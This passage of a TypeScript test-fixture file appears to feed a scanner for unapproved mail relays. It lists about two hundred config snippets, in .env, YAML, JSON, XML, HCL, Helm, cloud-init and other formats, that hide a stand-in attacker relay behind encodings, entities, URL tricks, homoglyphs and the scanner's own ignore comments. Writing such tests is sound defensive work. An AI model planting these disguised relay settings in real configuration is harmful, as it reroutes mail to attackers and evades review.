/**
 * Data files that send mail through a relay that is not approved, in spellings that hide it: those of each format itself,
 * of encodings, of addresses and of file names. Each must be stopped.
 */
import { gzipSync } from 'node:zlib';
import type { Files } from '../repository.ts';
import { EVIL, OLD } from './changes.ts';

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const gzipped = (text: string): string => gzipSync(text).toString('base64');
const utf16 = (text: string): Uint8Array => Buffer.from(text, 'utf16le');
const be = (text: string): Uint8Array => Buffer.from(text, 'utf16le').swap16();

export const dataFormats: Readonly<Record<string, Files>> = {
  // Env files.
  'env-export': { '.env': `export SMTP_HOST=${EVIL}\n` },
  'env-ansi-c-quote': { '.env': `A=1\nSMTP_HOST = '${EVIL}' # x\n` },
  'env-cr-only': { '.env': `A=1\rSMTP_HOST=${EVIL}\rB=2\r` },
  'env-mixed-ends': { '.env': `A=1\r\r\nSMTP_HOST=${EVIL}\r\r\n` },
  'env-bom-inside': { '.env': `A=1\n\uFEFFSMTP_HOST=${EVIL}\n` },
  'env-two-boms': { '.env': `\uFEFF\uFEFFSMTP_HOST=${EVIL}\n` },
  'env-utf16le-bare': { '.env': utf16(`SMTP_HOST=${EVIL}\n`) },
  'env-utf16be-bare': { '.env': be(`SMTP_HOST=${EVIL}\n`) },
  'env-nul-middle': { '.env': `A=1\0\nSMTP_HOST=${EVIL}\nB=\0\n` },
  'env-nul-in-host': { '.env': `SMTP_HOST=${OLD}\0\n` },
  'env-capital-name': { '.ENV': `SMTP_HOST=${EVIL}\n` },
  'env-vertical-tab': { '.env': `A=1\vB=2\n\fSMTP_HOST=${EVIL}\n` },
  'env-nbsp': { '.env': `\u00a0SMTP_HOST=${EVIL}\n` },
  'env-multiline-quote': { '.env': `NOTE="a\nb\n"\nSMTP_HOST=${EVIL}\n` },
  'env-unclosed-quote': { '.env': `NOTE="it is\nSMTP_HOST=${EVIL}\n` },
  'env-refers': { '.env': `X=${EVIL}\nSMTP_HOST=\${X}\n` },
  'env-refers-default': { '.env': `SMTP_HOST=\${NOBODY:-${EVIL}}\n` },
  'env-line-continued': { 'deploy/run.sh': `export SMTP_HOST=smtp.evil-\\\ncorp.com\n` },

  // YAML.
  'yaml-tags': { 'app/config.yml': `smtp: !!map\n  host: !!str ${EVIL}\n` },
  'yaml-own-tag': { 'app/config.yml': `smtp: !mail\n  host: !secret-free ${EVIL}\n` },
  'yaml-merge': { 'app/config.yml': `d: &d {host: ${EVIL}}\nsmtp:\n  <<: *d\n  port: 25\n` },
  'yaml-merge-list': { 'app/config.yml': `a: &a {port: 25}\nd: &d {host: ${EVIL}}\nsmtp:\n  <<: [*a, *d]\n` },
  'yaml-binary': { 'app/config.yml': `smtp:\n  host: !!binary ${b64(OLD)}\n` },
  'yaml-complex-key': { 'app/config.yml': `smtp:\n  ? host\n  : ${EVIL}\n` },
  'yaml-second-document': {
    'app/config.yml': `smtp:\n  host: new-relay.corp.example\n...\n---\nsmtp:\n  host: ${EVIL}\n`,
  },
  'yaml-duplicate': { 'app/config.yml': `smtp:\n  host: new-relay.corp.example\n  host: ${EVIL}\n` },
  'yaml-duplicate-first': { 'app/config.yml': `smtp:\n  host: ${EVIL}\n  host: new-relay.corp.example\n` },
  'yaml-duplicate-parent': { 'app/config.yml': `smtp:\n  host: ${EVIL}\nsmtp:\n  port: 25\n` },
  'yaml-escaped': { 'app/config.yml': `smtp:\n  "h\\x6fst": "smtp.\\u0065vil-corp.com"\n` },
  'yaml-folded': { 'app/config.yml': `smtp:\n  host: >-\n    ${EVIL}\n` },
  'yaml-quoted-continued': { 'app/config.yml': `smtp:\n  host: "smtp.evil-\\\n    corp.com"\n` },
  'yaml-tabs': { 'app/config.yml': `smtp:\n\thost: ${EVIL}\n` },
  'yaml-nel': { 'app/config.yml': `a: 1\u2028smtp:\n  host: ${EVIL}\n` },
  'yaml-percent': { 'app/config.yml': `%YAML 1.2\n---\nsmtp:\n  host: ${EVIL}\n` },
  'yaml-flow-nospace': { 'app/config.yml': `{"smtp":{"host":"${EVIL}"}}\n` },
  'yaml-alias-scalar': { 'app/config.yml': `x: &h ${EVIL}\nsmtp: {host: *h}\n` },
  'yaml-broken-above': { 'app/config.yml': `a: [1, 2\nb: }\nsmtp:\n  host: ${EVIL}\n` },

  // JSON.
  'json-duplicate': { 'app/c.json': `{"smtp":{"host":"new-relay.corp.example","host":"${EVIL}"}}` },
  'json-duplicate-first': { 'app/c.json': `{"smtp":{"host":"${EVIL}","host":"new-relay.corp.example"}}` },
  'json-escapes': { 'app/c.json': `{"smtp":{"h\\u006fst":"smtp.\\u0065vil-corp.com"}}` },
  'json-escaped-parent': { 'app/c.json': `{"\\u0073mtp":{"\\u0068ost":"\\u0073mtp.evil-corp.com"}}` },
  json5: { 'app/c.json5': `{ // mail\n smtp: { host: 'smtp.\\\nevil-corp.com', }, }` },
  'json-lines': { 'app/c.jsonl': `{"a":1}\n{"smtp":{"host":"${EVIL}"}}\n` },
  'json-trailing': { 'app/c.json': `{"a":1}}\n{"smtp":{"host":"${EVIL}"}}` },
  'json-in-json': { 'app/c.json': JSON.stringify({ config: JSON.stringify({ smtp: { host: EVIL } }) }) },

  // Java properties.
  'properties-escapes': { 'app/application.properties': `spring.mail.ho\\u0073t=\\u0073mtp.evil-corp.com\n` },
  'properties-continued': { 'app/application.properties': `spring.mail.\\\n   host=smtp.\\\n   evil-corp.com\n` },
  'properties-colon': { 'app/application.properties': `spring.mail.host : ${EVIL}\n` },
  'properties-space': { 'app/application.properties': `spring.mail.host ${EVIL}\n` },

  // Addresses and names in other spellings.
  'octal-address': { '.env': 'SMTP_HOST=0300.0.02.031\n' },
  'hex-address': { '.env': 'SMTP_HOST=0xc0000219\n' },
  'short-address': { '.env': 'SMTP_HOST=192.0.537\n' },
  'mapped-address': { '.env': 'SMTP_HOST=::ffff:192.0.2.25\n' },
  'nat64-address': { '.env': 'SMTP_HOST=64:ff9b::c000:219\n' },
  'percent-host': { '.env': 'SMTP_URL=smtp://mx1.old%2Ddc.example.org:25\n' },
  'percent-all': { '.env': `SMTP_URL=smtp://${[...OLD].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}:25\n` },
  'base64-secret': {
    'deploy/s.yml': `apiVersion: v1\nkind: Secret\nmetadata: {name: x}\ndata:\n  SMTP_HOST: ${b64(OLD)}\n`,
  },
  'base64-secret-evil': {
    'deploy/s.yml': `apiVersion: v1\nkind: Secret\nmetadata: {name: x}\ndata:\n  SMTP_HOST: ${b64(EVIL)}\n`,
  },
  'idn-dots': { '.env': 'SMTP_HOST=mx1。old-dc．example。org\n' },
  fullwidth: {
    '.env': `SMTP_HOST=${[...OLD].map((c) => (/[a-z]/.test(c) ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c)).join('')}\n`,
  },
  'zero-width': { '.env': 'SMTP_HOST=mx1.old-d\u200bc.example.org\n' },
  'capitals-dot': { '.env': `SMTP_HOST=${OLD.toUpperCase()}.\n` },

  // Dockerfiles and compose.
  'dockerfile-continued': { Dockerfile: `FROM x\nENV A=1 \\\n  # c\n  SMTP_HOST=smtp.evil-\\\ncorp.com\n` },
  'dockerfile-escape': { Dockerfile: `# escape=\`\nFROM x\nENV A=1 \`\n SMTP_HOST=${EVIL}\n` },
  'dockerfile-legacy-env': { Dockerfile: `FROM x\nenv SMTP_HOST ${EVIL}\n` },
  'compose-list-anchor': {
    'docker-compose.yml': `x-e: &e\n  SMTP_HOST: ${EVIL}\nservices:\n  web:\n    image: w\n    environment:\n      <<: *e\n`,
  },

  // XML.
  'xml-entity': {
    'app/web.config': `<?xml version="1.0"?><!DOCTYPE c [<!ENTITY h "${EVIL}">]><configuration><system.net><mailSettings><smtp><network host="&h;" port="25"/></smtp></mailSettings></system.net></configuration>`,
  },
  'xml-charref': {
    'app/web.config': `<configuration><system.net><mailSettings><smtp><network host="&#115;mtp.evil-corp.com" port="25"/></smtp></mailSettings></system.net></configuration>`,
  },
  'xml-cdata': { 'app/c.xml': `<smtp><host><![CDATA[${EVIL}]]></host></smtp>` },
  'xml-broken': { 'app/c.xml': `<a><b></a><smtp><host>${EVIL}</host></smtp>` },

  // TOML.
  'toml-escapes': { 'app/c.toml': `[smtp]\nhost = "smtp.\\u0065vil-corp.com"\n` },
  'toml-multiline': { 'app/c.toml': `[smtp]\nhost = """\\\n  smtp.evil-\\\n  corp.com"""\n` },
  'toml-quoted-key': { 'app/c.toml': `"smtp"."h\\u006fst" = '${EVIL}'\n` },

  // INI.
  'ini-spaces': { 'app/c.ini': `[ smtp ]\n  host\t=\t"${EVIL}"\n` },
  'ini-continued': { 'app/c.ini': `[smtp]\nhost =\n  ${EVIL}\n` },

  // Postfix.
  'main-cf-continued': { 'etc/postfix/main.cf': `relayhost =\n   [${EVIL}]:25\n` },
  'main-cf-macro': { 'etc/postfix/main.cf': `x = ${EVIL}\nrelayhost = [$x]:25\n` },
  'main-cf-later': { 'etc/postfix/main.cf': `relayhost = [new-relay.corp.example]\nrelayhost = [${EVIL}]\n` },

  // Templates.
  'jinja-default': { 'deploy/env.j2': `SMTP_HOST={{ mail_host | default('${EVIL}') }}\n` },
  'jinja-set': { 'deploy/env.j2': `{% set h = '${EVIL}' %}\nSMTP_HOST={{ h }}\n` },
  'helm-default': {
    'chart/templates/d.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  SMTP_HOST: {{ .Values.smtp.host | default "${EVIL}" }}\n`,
  },
  erb: { 'app/config.yml': `smtp:\n  host: <%= ENV['H'] || '${EVIL}' %>\n` },

  // Names of files.
  'file-name-space': { '.env ': `SMTP_HOST=${EVIL}\n` },
  'file-name-nfd': { 'deplo\u0301y/prod.env': `SMTP_HOST=${EVIL}\n` },
  'file-name-dash': { '-o/--help.env': `SMTP_HOST=${EVIL}\n` },
  'file-name-glob': { '[a]/{b,c}*.env': `SMTP_HOST=${EVIL}\n` },

  // What is let through elsewhere.
  'ignore-cased': { 'Docs/prod.env': `SMTP_HOST=${EVIL}\n` },
  'ignore-comment-file': {
    '.env': `# smtp-scan: ignore-file -- x\n# smtp-scan: ignore-file legacy-relay unapproved-relay -- x\nSMTP_HOST=${EVIL}\n`,
  },
  'ignore-comment-next': { '.env': `# smtp-scan: ignore-next-line unapproved-relay -- x\nSMTP_HOST=${EVIL}\n` },
  'test-folder': {
    'test/prod/.env': `SMTP_HOST=${EVIL}\n`,
    'app/m.py':
      'import os, smtplib\nfrom dotenv import load_dotenv\nload_dotenv("test/prod/.env")\nsmtplib.SMTP(os.environ["SMTP_HOST"])\n',
  },

  // Hosts that look like others.
  'localhost-lookalike': { '.env': 'SMTP_HOST=localhost.evil-corp.com\n' },
  'localhost-trailing': { '.env': 'SMTP_HOST=127.0.0.1.evil-corp.com\n' },
  'approved-suffix': { '.env': 'SMTP_HOST=new-relay.corp.example.evil-corp.com\n' },
  'approved-userinfo': { '.env': 'SMTP_URL=smtp://new-relay.corp.example@smtp.evil-corp.com:25\n' },
  'approved-userinfo-2': { '.env': 'SMTP_URL=smtp://new-relay.corp.example:25@smtp.evil-corp.com\n' },
  'approved-fragment': { '.env': 'SMTP_URL=smtp://smtp.evil-corp.com#@new-relay.corp.example\n' },
  'approved-backslash': { '.env': 'SMTP_URL=smtp://smtp.evil-corp.com\\\\@new-relay.corp.example\n' },
  'approved-comment': { '.env': `SMTP_HOST=${EVIL} # new-relay.corp.example\n` },
  'approved-list': { '.env': `SMTP_HOST=new-relay.corp.example,${EVIL}\n` },
  'approved-pipe': { '.env': `SMTP_HOST=new-relay.corp.example|${EVIL}\n` },
  'host-port-in-one': { '.env': `SMTP_HOST=${EVIL}:25:tls\n` },
  'two-names': { '.env': `SMTP_HOST=new-relay.corp.example\nSMTP_HOST=${EVIL}\n` },
  'two-names-reversed': { '.env': `SMTP_HOST=${EVIL}\nSMTP_HOST=new-relay.corp.example\n` },

  // TOML.
  'toml-dotted': { 'app/c.toml': `smtp.host = "${EVIL}"\n` },
  'toml-array-of-tables': { 'app/c.toml': `[[mail.smtp]]\nhost = "${EVIL}"\n` },
  'toml-inline': { 'app/c.toml': `mail = { smtp = { host = '${EVIL}' } }\n` },
  'toml-literal-multiline': { 'app/c.toml': `[smtp]\nhost = '''\n${EVIL}'''\n` },
  'toml-long-escape': { 'app/c.toml': `[smtp]\n"h\\U0000006fst" = "smtp.\\U00000065vil-corp.com"\n` },
  'toml-broken': { 'app/c.toml': `x = = 1\n[smtp]\n"host" = "${EVIL}"\n` },
  'toml-escaped-table': { 'app/c.toml': `["\\u0073mtp"]\n"\\u0068ost" = "\\u0073mtp.evil-corp.com"\n` },

  // HCL.
  'hcl-heredoc': { 'main.tf': `resource "x" "y" {\n  user_data = <<-EOT\n    A=1\n    SMTP_HOST=${EVIL}\n  EOT\n}\n` },
  'hcl-escape': { 'main.tf': `variable "smtp_host" {\n  default = "smtp.\\u0065vil-corp.com"\n}\n` },
  'hcl-local': {
    'main.tf': `locals {\n  h = "${EVIL}"\n}\nresource "x" "y" {\n  environment = {\n    SMTP_HOST = local.h\n  }\n}\n`,
  },
  'hcl-base64': {
    'main.tf': `resource "x" "y" {\n  environment = {\n    SMTP_HOST = base64decode("${b64(EVIL)}")\n  }\n}\n`,
  },
  'hcl-join': {
    'main.tf': `resource "x" "y" {\n  environment = {\n    SMTP_HOST = join(".", ["smtp", "evil-corp", "com"])\n  }\n}\n`,
  },
  'hcl-format': {
    'main.tf': `resource "x" "y" {\n  environment = {\n    SMTP_HOST = format("%s.%s", "smtp", "evil-corp.com")\n  }\n}\n`,
  },
  'hcl-user-data-base64': {
    'main.tf': `resource "aws_instance" "y" {\n  user_data_base64 = "${b64(`#!/bin/sh\nexport SMTP_HOST=${EVIL}\n`)}"\n}\n`,
  },
  'tf-json-escaped': { 'main.tf.json': `{"variable":{"smtp_h\\u006fst":{"default":"smtp.\\u0065vil-corp.com"}}}` },

  // Env files, once more.
  'env-export-quoted': { '.env': `export SMTP_HOST="${EVIL}"\n` },
  'env-colon': { '.env': `SMTP_HOST: ${EVIL}\n` },
  'env-backtick': { '.env': `SMTP_HOST=\`${EVIL}\`\n` },
  'env-double-quoted-break': { '.env': `SMTP_HOST="${EVIL}\n"\n` },
  'env-refers-twice': { '.env': `A=evil-corp.com\nB=smtp.\${A}\nSMTP_HOST=$B\n` },
  'env-refers-later': { '.env': `SMTP_HOST=\${X}\nX=${EVIL}\n` },
  'env-prefix': { '.env': `P=smtp\nSMTP_HOST=\${P}.evil-corp.com\n` },
  'env-lower-case': { '.env': `smtp_host=${EVIL}\n` },
  'env-semicolon': { '.env': `SMTP_HOST=${EVIL};\n` },
  'env-plus': { '.env': `SMTP_HOST+=${EVIL}\n` },
  'env-continued-name': { '.env': `SMTP_\\\nHOST=${EVIL}\n` },
  'env-huge-comment': { '.env': `# ${'x'.repeat(300_000)}\nSMTP_HOST=${EVIL}\n` },
  'env-many-comments': { '.env': `${'# smtp\n'.repeat(50_000)}SMTP_HOST=${EVIL}\n` },

  // YAML, once more.
  'yaml-alias-key': { 'app/config.yml': `k: &k host\nsmtp:\n  *k : ${EVIL}\n` },
  'yaml-binary-key': { 'app/config.yml': `!!binary ${b64('smtp')}:\n  !!binary ${b64('host')}: ${EVIL}\n` },
  'yaml-binary-folded': {
    'app/config.yml': `smtp:\n  host: !!binary |\n    ${b64(EVIL).slice(0, 8)}\n    ${b64(EVIL).slice(8)}\n`,
  },
  'yaml-binary-tag': { 'app/config.yml': `smtp:\n  host: !<tag:yaml.org,2002:binary> ${b64(EVIL)}\n` },
  'yaml-tag-directive': {
    'app/config.yml': `%TAG !e! tag:yaml.org,2002:\n---\nsmtp:\n  host: !e!binary ${b64(EVIL)}\n`,
  },
  'yaml-anchor-override': {
    'app/config.yml': `smtp: &s\n  host: new-relay.corp.example\nsmtp:\n  <<: *s\n  host: ${EVIL}\n`,
  },
  'yaml-flow-multiline': { 'app/config.yml': `smtp: {\n  host:\n    ${EVIL}\n  }\n` },
  'yaml-comment-inside': { 'app/config.yml': `smtp:\n  # c\n  host: # c\n    ${EVIL}\n` },
  'yaml-long-escape': { 'app/config.yml': `smtp:\n  "\\U00000068ost": "\\U00000073mtp.evil-corp.com"\n` },
  'yaml-escaped-parent': { 'app/config.yml': `"\\x73mtp":\n  "\\x68ost": "\\x73mtp.evil-corp.com"\n` },
  'yaml-env-list': {
    'docker-compose.yml': `services:\n  web:\n    image: w\n    environment:\n      - "SMTP_H\\x4fST=${EVIL}"\n`,
  },
  'yaml-block-env': { 'app/config.yml': `env: |\n  SMTP_HOST=${EVIL}\n` },
  'yaml-json-inside': { 'app/config.yml': `config: '{"smtp":{"host":"${EVIL}"}}'\n` },
  'yaml-seq-of-pairs': { 'app/config.yml': `smtp:\n  - host: ${EVIL}\n` },
  'yaml-bom-second': { 'app/config.yml': `a: 1\n---\n\uFEFFsmtp:\n  host: ${EVIL}\n` },
  'yaml-single-quoted-key': { 'app/config.yml': `'smtp': {'host': '${EVIL}'}\n` },
  'compose-extension': {
    'docker-compose.yml': `x-mail: &m {SMTP_HOST: ${EVIL}}\nservices:\n  web: {image: w, environment: *m}\n`,
  },
  'compose-default': {
    'docker-compose.yml': `services:\n  web:\n    image: w\n    environment:\n      SMTP_HOST: \${NOBODY-${EVIL}}\n`,
  },

  // Kubernetes and what lays files.
  'k8s-string-data': {
    'k8s/s.yml': `apiVersion: v1\nkind: Secret\nmetadata: {name: x}\nstringData:\n  SMTP_HOST: ${EVIL}\n`,
  },
  'k8s-secret-env': {
    'k8s/s.yml': `apiVersion: v1\nkind: Secret\nmetadata: {name: x}\ndata:\n  .env: ${b64(`SMTP_HOST=${EVIL}\n`)}\n`,
  },
  'k8s-secret-list': {
    'k8s/s.yml': `apiVersion: v1\nkind: List\nitems:\n  - apiVersion: v1\n    kind: Secret\n    metadata: {name: x}\n    data:\n      SMTP_HOST: ${b64(EVIL)}\n`,
  },
  'k8s-secret-unpadded': {
    'k8s/s.yml': `apiVersion: v1\nkind: Secret\nmetadata: {name: x}\ndata:\n  SMTP_HOST: "${b64(`${EVIL}\n`)}"\n`,
  },
  'k8s-binary-data': {
    'k8s/s.yml': `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\nbinaryData:\n  mail.properties: ${b64(`mail.smtp.host=${EVIL}\n`)}\n`,
  },
  'k8s-secret-kind-escaped': {
    'k8s/s.yml': `apiVersion: v1\n"k\\x69nd": Secret\nmetadata: {name: x}\ndata:\n  SMTP_HOST: ${b64(EVIL)}\n`,
  },
  'k8s-secret-json': {
    'k8s/s.json': JSON.stringify({ apiVersion: 'v1', kind: 'Secret', data: { SMTP_HOST: b64(EVIL) } }),
  },
  'helm-tpl': { 'chart/values.yaml': `mail:\n  h: ${EVIL}\nsmtp:\n  host: '{{ .Values.mail.h }}'\n` },
  'helm-variable': {
    'chart/templates/d.yaml': `{{- $h := "${EVIL}" -}}\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  SMTP_HOST: {{ $h | quote }}\n`,
  },
  'helm-printf': {
    'chart/templates/d.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  SMTP_HOST: {{ printf "%s.%s" "smtp" "evil-corp.com" }}\n`,
  },
  'helm-literal': {
    'chart/templates/d.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  SMTP_HOST: {{ "${EVIL}" | quote }}\n`,
  },
  'helm-b64enc': {
    'chart/templates/s.yaml': `apiVersion: v1\nkind: Secret\nmetadata: {name: x}\ndata:\n  SMTP_HOST: {{ "${EVIL}" | b64enc }}\n`,
  },
  'helm-b64dec': {
    'chart/templates/d.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  SMTP_HOST: {{ "${b64(EVIL)}" | b64dec }}\n`,
  },
  'cloud-init-base64': {
    'cloud-init.yml': `#cloud-config\nwrite_files:\n  - path: /etc/app.env\n    encoding: b64\n    content: ${b64(`SMTP_HOST=${EVIL}\n`)}\n`,
  },
  'cloud-init-gzip': {
    'cloud-init.yml': `#cloud-config\nwrite_files:\n  - path: /etc/app.env\n    encoding: gz+b64\n    content: ${gzipped(`SMTP_HOST=${EVIL}\n`)}\n`,
  },
  'cloud-init-binary': {
    'cloud-init.yml': `#cloud-config\nwrite_files:\n  - path: /etc/app.env\n    content: !!binary ${b64(`SMTP_HOST=${EVIL}\n`)}\n`,
  },
  'cloud-init-user-data': {
    'stack.yml': `Resources:\n  I:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData: ${b64(`#!/bin/bash\nexport SMTP_HOST=${EVIL}\n`)}\n`,
  },
  'cloudformation-sub': {
    'stack.yml': `Resources:\n  F:\n    Type: AWS::Lambda::Function\n    Properties:\n      Environment:\n        Variables:\n          SMTP_HOST: !Sub 'smtp.evil-corp.com'\n`,
  },
  'cloudformation-join': {
    'stack.yml': `Resources:\n  F:\n    Type: AWS::Lambda::Function\n    Properties:\n      Environment:\n        Variables:\n          SMTP_HOST: !Join ['.', [smtp, evil-corp, com]]\n`,
  },

  // Other formats.
  plist: {
    'app/mail.plist': `<?xml version="1.0"?><plist version="1.0"><dict><key>SMTPHost</key><string>${EVIL}</string></dict></plist>`,
  },
  'plist-charref-key': {
    'app/mail.plist': `<plist><dict><key>SMTP&#72;ost</key><string>&#x73;mtp.evil-corp.com</string></dict></plist>`,
  },
  'xml-entity-key': {
    'app/web.config': `<!DOCTYPE c [<!ENTITY k "SmtpHost"><!ENTITY h "${EVIL}">]><configuration><appSettings><add key="&k;" value="&h;"/></appSettings></configuration>`,
  },
  'xml-entity-nested': {
    'app/web.config': `<!DOCTYPE c [<!ENTITY d "evil-corp.com"><!ENTITY h "smtp.&d;">]><configuration><appSettings><add key="SmtpHost" value="&h;"/></appSettings></configuration>`,
  },
  'xml-entity-of-a-file': {
    'app/c.xml': `<!DOCTYPE c [<!ENTITY h SYSTEM "relay.txt">]><smtp><host>&h;</host></smtp>`,
    'app/relay.txt': EVIL,
  },
  'xml-included-text': {
    'app/c.xml': `<smtp xmlns:xi="http://www.w3.org/2001/XInclude"><host><xi:include href="relay.txt" parse="text"/></host></smtp>`,
    'app/relay.txt': EVIL,
  },
  'yaml-included-text': { 'app/config.yml': 'smtp:\n  host: !include relay.txt\n', 'app/relay.txt': `${EVIL}\n` },
  'xml-entity-markup': { 'app/c.xml': `<!DOCTYPE c [<!ENTITY s '<smtp><host>${EVIL}</host></smtp>'>]><c>&s;</c>` },
  'xml-utf16': {
    'app/web.config': Buffer.from(
      `\uFEFF<?xml version="1.0" encoding="utf-16"?><configuration><appSettings><add key="SmtpHost" value="${EVIL}"/></appSettings></configuration>`,
      'utf16le',
    ),
  },
  'xml-charref-host': { 'app/c.xml': `<smtp><host>smtp&#46;evil-corp&#x2e;com</host></smtp>` },
  'xml-cdata-split': { 'app/c.xml': `<smtp><host>smtp.<![CDATA[evil-]]>corp.com</host></smtp>` },
  'xml-comment-inside': { 'app/c.xml': `<smtp><host>smtp.<!-- x -->evil-corp.com</host></smtp>` },
  'xml-namespace': { 'app/c.xml': `<m:smtp xmlns:m="x"><m:host>${EVIL}</m:host></m:smtp>` },
  registry: {
    'app/mail.reg': `Windows Registry Editor Version 5.00\n\n[HKEY_LOCAL_MACHINE\\Software\\App]\n"SmtpServer"="${EVIL}"\n`,
  },
  jsonc: { 'app/c.jsonc': `// c\n{"smtp": /* x */ {"host": "${EVIL}",}}` },
  'json-single-line-comment-end': { 'app/c.json': `{"smtp":{"host":"${EVIL}"}} // x` },
  'json-bom-twice': { 'app/c.json': `\uFEFF\uFEFF{"smtp":{"host":"${EVIL}"}}` },
  'json-concatenated': { 'app/c.json': `{"a":1}{"smtp":{"host":"${EVIL}"}}` },
  'json-garbage-before': { 'app/c.json': `)]}',\n{"smtp":{"host":"${EVIL}"}}` },
  'json-sequence': { 'app/c.json': `\u001e{"a":1}\n\u001e{"smtp":{"host":"${EVIL}"}}\n` },
  'json-escaped-in-json': {
    'app/c.json': JSON.stringify({ config: `{"sm\\u0074p":{"h\\u006fst":"smtp.\\u0065vil-corp.com"}}` }),
  },
  'json-slash': { 'app/c.json': `{"smtp_url":"smtp:\\/\\/smtp.evil-corp.com:25"}` },
  'json5-hex': { 'app/c.json5': `{smtp: {'h\\x6fst': 'smtp.\\x65vil-corp.com'}}` },
  'json-unquoted': { 'app/c.json': `{smtp: {host: ${EVIL}}}` },
  'json-nul': { 'app/c.json': `{"smtp":{"host":"${EVIL}\\u0000"}}` },
  'properties-unicode-twice': { 'app/application.properties': `spring.mail.host=smtp.\\u0065\\u0076il-corp.com\n` },
  'properties-many-u': { 'app/application.properties': `\\u0073pring.mail.host=${EVIL}\n` },
  'properties-refers': { 'app/application.properties': `h=${EVIL}\nspring.mail.host=\${h}\n` },
  'properties-escaped-letters': { 'app/application.properties': `spring.mail.h\\ost=smtp.\\evil-corp.com\n` },
  'properties-crlf-continued': { 'app/application.properties': `spring.mail.host=smtp.\\\r\n   evil-corp.com\r\n` },
  'ini-duplicate-section': { 'app/c.ini': `[smtp]\nport=25\n[x]\na=b\n[smtp]\nhost=${EVIL}\n` },
  'ini-backslash': { 'app/c.ini': `[smtp]\nhost = smtp.\\\nevil-corp.com\n` },
  'ini-interpolated': { 'app/c.ini': `[DEFAULT]\nh = ${EVIL}\n[smtp]\nhost = %(h)s\n` },
  'ini-interpolated-braces': { 'app/c.ini': `[x]\nh = ${EVIL}\n[smtp]\nhost = \${x:h}\n` },
  'ini-capitals': { 'app/c.ini': `[SMTP]\nHOST=${EVIL}\n` },
  'systemd-continued': {
    'deploy/web.service': `[Service]\nEnvironment="A=1" \\\n  "SMTP_HOST=${EVIL}"\nExecStart=/x\n`,
  },
  'systemd-escape': { 'deploy/web.service': `[Service]\nEnvironment=SMTP_HOST=smtp.\\x65vil-corp.com\nExecStart=/x\n` },
  'dockerfile-arg': { Dockerfile: `FROM x\nARG h=${EVIL}\nENV SMTP_HOST=$h\n` },
  'dockerfile-quoted-name': { Dockerfile: `FROM x\nENV "SMTP_HOST"="${EVIL}"\n` },
  'dockerfile-run-echo': { Dockerfile: `FROM x\nRUN echo SMTP_HOST=${EVIL} > /app/.env\n` },
  'dockerfile-split-host': { Dockerfile: `FROM x\nENV SMTP_HOST=smtp.ev\\il-corp.com\n` },
  'jinja-filter': { 'deploy/env.j2': `SMTP_HOST={{ '${EVIL}' | lower }}\n` },
  'jinja-concat': { 'deploy/env.j2': `SMTP_HOST={{ 'smtp.' ~ 'evil-corp.com' }}\n` },
  'jinja-set-capital': {
    'deploy/env.j2': `{%- set mail_relay_name = "${EVIL}" -%}\nSMTP_HOST={{ mail_relay_name }}\n`,
  },
  'jinja-block-set': { 'deploy/env.j2': `{% set h %}${EVIL}{% endset %}\nSMTP_HOST={{ h }}\n` },
  'jinja-or': { 'deploy/env.j2': `SMTP_HOST={{ nobody or '${EVIL}' }}\n` },
  'jinja-reverse': { 'deploy/env.j2': `SMTP_HOST={{ '${[...EVIL].reverse().join('')}' | reverse }}\n` },
  'jinja-b64decode': { 'deploy/env.j2': `SMTP_HOST={{ '${b64(EVIL)}' | b64decode }}\n` },
  'erb-local': { 'deploy/env.erb': `<% h = '${EVIL}' %>\nSMTP_HOST=<%= h %>\n` },
  'erb-literal': { 'deploy/env.erb': `SMTP_HOST=<%= '${EVIL}' %>\n` },
  'ansible-vars': { 'group_vars/all.yml': `h: ${EVIL}\nsmtp_host: "{{ h }}"\n` },
  'ansible-b64decode': { 'group_vars/all.yml': `smtp_host: "{{ '${b64(EVIL)}' | b64decode }}"\n` },

  // Hosts and URLs.
  'url-ipv6': { '.env': 'SMTP_URL=smtp://[::ffff:192.0.2.25]:25\n' },
  'url-userinfo-percent': { '.env': `SMTP_URL=smtp://new-relay.corp.example%40x:y@${EVIL}\n` },
  'url-slash-at': { '.env': `SMTP_URL=smtp://${EVIL}/@new-relay.corp.example\n` },
  'url-query-at': { '.env': `SMTP_URL=smtp://${EVIL}?@new-relay.corp.example\n` },
  'url-port-at': { '.env': `SMTP_URL=smtp://${EVIL}:25#@new-relay.corp.example\n` },
  'url-backslash-slash': { '.env': `SMTP_URL=smtp:\\\\\\\\${EVIL}\n` },
  'url-one-slash': { '.env': `SMTP_URL=smtp:/${EVIL}\n` },
  'url-three-slashes': { '.env': `SMTP_URL=smtp:///${EVIL}\n` },
  'url-no-slash': { '.env': `SMTP_URL=smtp:${EVIL}\n` },
  'url-space': { '.env': `SMTP_URL=smtp://${EVIL} @new-relay.corp.example\n` },
  'url-tab-inside': { '.env': `SMTP_URL=smtp://smtp.evil\t-corp.com\n` },
  'url-capitals': { '.env': `SMTP_URL=SMTP://${EVIL.toUpperCase()}\n` },
  'url-unknown-scheme': { '.env': `SMTP_URL=mail+smtp://${EVIL}\n` },
  'url-list': { '.env': `SMTP_URL=smtp://new-relay.corp.example,smtp://${EVIL}\n` },
  'url-two-hosts': { '.env': `SMTP_URL=smtp://new-relay.corp.example,${EVIL}:25\n` },
  'url-encoded-separators': { '.env': `SMTP_URL=smtp%3A%2F%2F${EVIL}\n` },
  'url-failover': { '.env': `MAILER_DSN="failover(smtp://new-relay.corp.example smtp://${EVIL})"\n` },
  'host-punycode': { '.env': 'SMTP_HOST=xn--smtp-evil-corp-abc.com\n' },
  'host-soft-hyphen': { '.env': 'SMTP_HOST=mx1.old-d\u00adc.example.org\n' },
  'host-zero-width-joiner': { '.env': 'SMTP_HOST=mx1.old-dc.exam\u200dple.org\n' },
  'host-bom-inside': { '.env': 'SMTP_HOST=mx1.old-dc\ufeff.example.org\n' },
  'host-trailing-dots': { '.env': `SMTP_HOST=${EVIL}..\n` },
  'host-leading-dot': { '.env': `SMTP_HOST=.${EVIL}\n` },
